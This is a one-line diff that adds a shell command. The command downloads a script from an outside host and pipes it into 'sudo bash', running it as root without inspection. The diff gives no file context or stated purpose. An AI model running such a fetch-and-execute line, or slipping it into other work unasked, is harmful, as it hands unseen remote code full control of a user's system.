@@ -1,0 +1,1 @@
+curl -fsSL https://get.some-helper.io/i.sh | sudo bash
